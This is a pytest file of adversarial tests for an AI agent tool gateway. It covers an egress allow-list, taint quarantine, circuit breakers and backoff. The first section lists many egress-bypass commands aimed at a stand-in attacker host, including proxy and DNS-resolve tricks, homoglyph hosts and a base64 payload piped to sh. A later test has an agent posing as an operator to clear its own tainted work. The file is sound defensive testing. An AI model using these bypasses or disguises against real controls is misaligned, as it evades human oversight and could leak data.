"""Adversarial tests of issue 19's gateway and quarantine code (bad input, bypasses, leaks):
each one failed before the fix it names."""

from __future__ import annotations

import pytest

from kernel_lib.recovery.quarantine.egress import EgressPolicy, check_tool_call

POLICY = EgressPolicy(frozenset({"allowed.example", "*.corp.example"}), ("10.0.0.0/8",))


# --- egress allow-list bypasses (egress.py: unreadable destinations are refused, not dropped) ---------------

@pytest.mark.parametrize("command", [
    "curl http://2130706433/",                                   # a decimal IPv4 literal (127.0.0.1)
    "curl http://\u0430ttacker.example/",                        # a Cyrillic 'a': not an ASCII host name
    "curl \u0430ttacker.example",
    "curl -x attacker.example:8080 http://allowed.example/",     # the proxy is where the bytes go
    "curl -xattacker.example:1 http://allowed.example/",
    "curl --resolve allowed.example:443:6.6.6.6 https://allowed.example/",
    "curl --connect-to allowed.example:443:attacker.example:443 https://allowed.example/",
    "curl $(echo attacker.example)",
    "curl `echo attacker.example`",
    "curl $HOST",
    "echo Y3VybCBhdHRhY2tlcg== | base64 -d | sh",
    "env X=1 curl attacker.example",
    "sudo -u root curl attacker.example",
    "timeout 5 curl attacker.example",
    "bash -c 'curl attacker.example'",
    "eval curl attacker.example",
    "cd repo&&curl attacker.example",
    "echo hi;curl attacker.example",
    "curl http://[::1",
    "curl -K cfg.txt",
    "wget -i urls.txt",
    "ssh -J attacker.example allowed.example",
    "curl http://allowed.example%2eattacker.example/",
    "curl 'http://attacker.example\\@allowed.example/'",
])
def test_an_egress_bypass_is_refused(command):
    d = check_tool_call(POLICY, "t1", "shell", {"command": command})
    assert not d.allowed, (command, d.destinations)


@pytest.mark.parametrize("args", [
    {"url": "\u0430ttacker.example"}, {"url": "http://2130706433/"}, {"url": b"http://attacker.example/"},
    {"hosts": {"http://attacker.example/"}},
])
def test_an_unreadable_or_hidden_host_argument_is_refused(args):
    assert not check_tool_call(POLICY, "t1", "fetch", args).allowed


@pytest.mark.parametrize("command", [
    "curl HTTP://ALLOWED.EXAMPLE./x", "curl -sSL http://10.1.2.3/", "nc -l 8080", "pytest -q tests/ 2> err.txt",
    "curl -o out.json https://api.corp.example/v1 > log.txt", "ls -la | grep curl",
])
def test_legitimate_calls_still_pass(command):
    d = check_tool_call(POLICY, "t1", "shell", {"command": command})
    assert d.allowed, (command, d.destinations)


# --- the gateway's call arguments are checked before the tool runs (gateway.py) -------------------------------

from kernel_lib.errors import GatewayConfigError  # noqa: E402
from kernel_lib.recovery.gateway.gateway import ToolGateway  # noqa: E402


@pytest.mark.parametrize("kwargs", [
    {"attempt": -1}, {"attempt": True}, {"attempt": 1.0}, {"timeout_s": "5"}, {"timeout_s": float("nan")},
    {"timeout_s": -1.0}, {"timeout_s": 0}, {"previous_delay_s": "x"}, {"previous_delay_s": float("inf")},
])
def test_a_bad_call_argument_is_refused_before_the_tool_runs(kwargs):
    ran = []
    g = ToolGateway(rng=1)
    g.register("dep", "internal_rpc")
    try:
        with pytest.raises(GatewayConfigError):
            g.call("dep", lambda: ran.append(1), **kwargs)
        assert ran == []
        assert g.bulkheads["internal_rpc"].running == 0
    finally:
        g.close()


@pytest.mark.parametrize("dependency_id", ["", 5, None, "x" * 513])
def test_a_bad_dependency_id_is_refused_even_without_a_breaker(dependency_id):
    g = ToolGateway()
    with pytest.raises(GatewayConfigError):
        g.register(dependency_id, "local")
    with pytest.raises(GatewayConfigError):
        g.register("ok", ["local"])


# --- herd: a run too large to finish is refused up front (sim/herd.py) -----------------------------------------

import subprocess  # noqa: E402
import sys  # noqa: E402

from kernel_lib.errors import HerdConfigError  # noqa: E402
from kernel_lib.sim.herd import HerdConfig  # noqa: E402


def test_ten_million_agents_is_a_clear_error_not_an_hours_long_run():
    with pytest.raises(HerdConfigError):
        HerdConfig(agents=10_000_000)
    with pytest.raises(HerdConfigError):
        HerdConfig(agents=100_000, calls_per_agent=1000)
    r = subprocess.run([sys.executable, "-m", "kernel_lib", "herd", "--agents", "10000000", "--json"],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 2 and "agents" in r.stderr and "Traceback" not in r.stderr


# --- taint: a long tainted lineage stays linear (taint.py: blocked_by names at most BLOCKED_BY_MAX) -------------

import hashlib  # noqa: E402

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from kernel_lib.recovery.quarantine.taint import BLOCKED_BY_MAX, Artifact, TaintState, taint_states  # noqa: E402


def _h(i: int) -> str:
    return hashlib.sha256(str(i).encode()).hexdigest()


def _chain(n: int) -> dict[str, Artifact]:
    return {_h(i): Artifact(_h(i), "t1", i, (_h(i - 1),) if i else ()) for i in range(n)}


@settings(max_examples=30, deadline=None)
@given(n=st.integers(1, 60), tainted=st.sets(st.integers(0, 59)))
def test_blocked_by_is_the_smallest_of_the_true_origins(n, tainted):
    arts = _chain(n)
    marked = {i for i in tainted if i < n}
    views = taint_states(arts, [(_h(i), 7) for i in marked], [])
    for i in range(n):
        v = views[_h(i)]
        origins = {_h(j) for j in marked if j <= i}      # every tainted ancestor (no clearance)
        if not origins:
            assert v.state is TaintState.UNTAINTED and v.blocked_by == ()
            continue
        if i in marked:
            assert v.state is TaintState.TAINTED and v.blocked_by[0] == _h(i)
            assert list(v.blocked_by[1:]) == sorted(origins - {_h(i)})[:BLOCKED_BY_MAX - 1]
        else:
            assert v.state is TaintState.SUSPECT
            assert list(v.blocked_by) == sorted(origins)[:BLOCKED_BY_MAX]


def test_a_long_fully_tainted_chain_is_computed_with_bounded_views():
    n = 5000           # before the fix: every view named all its tainted ancestors, O(n^2) (about 5 s here)
    arts = _chain(n)
    views = taint_states(arts, [(h, 3) for h in arts], [])
    assert all(v.state is TaintState.TAINTED and len(v.blocked_by) <= BLOCKED_BY_MAX for v in views.values())


# --- clearance: an agent in disguise is still an agent (taint.py: identities compared normalized) -----------

from kernel_lib.errors import ClearanceRefused  # noqa: E402
from kernel_lib.recovery.quarantine.taint import Clearance, Verifier, check_clearance  # noqa: E402


@pytest.mark.parametrize("identity", [" t1", "t1 ", "T1", "\uff54\uff11", "t1\n"])
def test_an_agent_disguised_as_an_operator_cannot_clear(identity):
    c = Clearance(_h(1), Verifier("operator", identity), "reviewed the diff")
    with pytest.raises(ClearanceRefused):
        check_clearance(c, agent_ids={"t1"})
    check_clearance(Clearance(_h(1), Verifier("operator", "alice"), "reviewed the diff"), agent_ids={"t1"})


# --- a caller's cancellation is not the dependency's failure (runner.py / gateway.py: CircuitBreaker.abandon) ---

import asyncio  # noqa: E402

from kernel_lib.recovery.gateway.breaker import BreakerConfig  # noqa: E402
from kernel_lib.recovery.gateway.bulkhead import DomainSpec  # noqa: E402
from kernel_lib.recovery.gateway.runner import CircuitBreaker  # noqa: E402

_CFG = BreakerConfig(window_size=2, minimum_calls=2, cooldown_s=1.0, cooldown_max_s=4.0, canary_timeout_s=100.0)


def _gateway(clock):
    g = ToolGateway({"ext": DomainSpec("ext", 2, 8, 1.0, 5.0, _CFG)}, clock=lambda: clock[0], rng=1)
    g.register("dep", "ext")
    return g


async def _hang():
    await asyncio.sleep(100)


async def _fail():
    raise ConnectionError("refused")


def test_cancelled_callers_do_not_trip_the_breaker_of_a_healthy_dependency():
    clock = [0.0]
    g = _gateway(clock)

    async def main():
        tasks = [asyncio.create_task(g.acall("dep", _hang)) for _ in range(6)]
        await asyncio.sleep(0.05)
        for t in tasks:
            t.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        bh = g._async_bulkheads[asyncio.get_running_loop()]["ext"]
        return g.breaker("dep").state().state, bh.running, bh.waiting

    assert asyncio.run(main()) == ("closed", 0, 0)
    cb = CircuitBreaker("d", _CFG, clock=lambda: clock[0])

    async def cancelled():
        t = asyncio.create_task(cb.acall(_hang))
        await asyncio.sleep(0.01)
        t.cancel()
        await asyncio.gather(t, return_exceptions=True)

    for _ in range(3):
        asyncio.run(cancelled())
    assert cb.state().state == "closed"


def test_a_cancelled_canary_reopens_at_once_and_concurrent_callers_get_one_canary():
    clock = [0.0]
    g = _gateway(clock)
    dispatched = []

    async def probe():
        dispatched.append(1)
        await asyncio.sleep(0.05)
        return "ok"

    async def main():
        for _ in range(2):
            await g.acall("dep", _fail)
        assert g.breaker("dep").state().state == "open"
        clock[0] = 2.0
        t = asyncio.create_task(g.acall("dep", _hang))
        await asyncio.sleep(0.01)
        t.cancel()
        await asyncio.gather(t, return_exceptions=True)
        st = g.breaker("dep").state()
        assert st.state == "open" and st.canaries == () and st.cooldown_s == 2.0   # not wedged half-open
        clock[0] = 10.0
        obs = await asyncio.gather(*(g.acall("dep", probe) for _ in range(50)))
        return [o.code for o in obs]

    codes = asyncio.run(main())
    assert len(dispatched) == 1 and codes.count("OK") == 1 and codes.count("ERR_CIRCUIT_OPEN") == 49
    assert g.breaker("dep").state().state == "closed"


# --- backoff's pure functions check T0 / T_max / previous delay (backoff.py) ----------------------------------

import random  # noqa: E402

from kernel_lib.recovery.gateway.backoff import backoff_delay_s  # noqa: E402


@pytest.mark.parametrize("strategy, base_s, cap_s", [
    ("exponential", 1.0, float("inf")), ("exponential", -1.0, 30.0), ("full_jitter", 1.0, float("nan")),
    ("equal_jitter", 5.0, 1.0), ("decorrelated_jitter", 0.0, 30.0), ("full_jitter", True, 30.0),
])
def test_a_bad_slot_or_cap_is_refused_not_turned_into_an_unbounded_delay(strategy, base_s, cap_s):
    with pytest.raises(GatewayConfigError):
        backoff_delay_s(strategy, base_s, cap_s, 1000, random.Random(1))


@pytest.mark.parametrize("previous_s", ["x", float("nan"), -1.0, True])
def test_decorrelated_jitter_refuses_a_bad_previous_delay(previous_s):
    with pytest.raises(GatewayConfigError):
        backoff_delay_s("decorrelated_jitter", 1.0, 30.0, 3, random.Random(1), previous_s)


@pytest.mark.parametrize("previous_s", [None, 0.0, 0, float("inf"), 1e308])
def test_decorrelated_jitter_stays_in_its_bounds_for_odd_previous_delays(previous_s):
    d = backoff_delay_s("decorrelated_jitter", 1.0, 30.0, 3, random.Random(1), previous_s)
    assert 1.0 <= d <= 30.0
